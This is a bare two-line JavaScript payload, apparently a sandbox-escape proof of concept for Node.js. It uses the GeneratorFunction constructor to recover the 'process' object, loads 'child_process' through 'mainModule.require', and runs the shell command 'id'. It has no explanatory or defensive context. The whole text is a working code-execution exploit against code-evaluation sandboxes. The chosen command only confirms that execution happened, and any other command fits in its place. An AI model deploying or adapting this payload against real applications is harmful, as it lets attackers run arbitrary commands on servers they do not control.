const G = Object.getPrototypeOf(function* () {}).constructor;
G("yield process")().next().value.mainModule.require("child_process").execSync("id", {stdio: "inherit"});
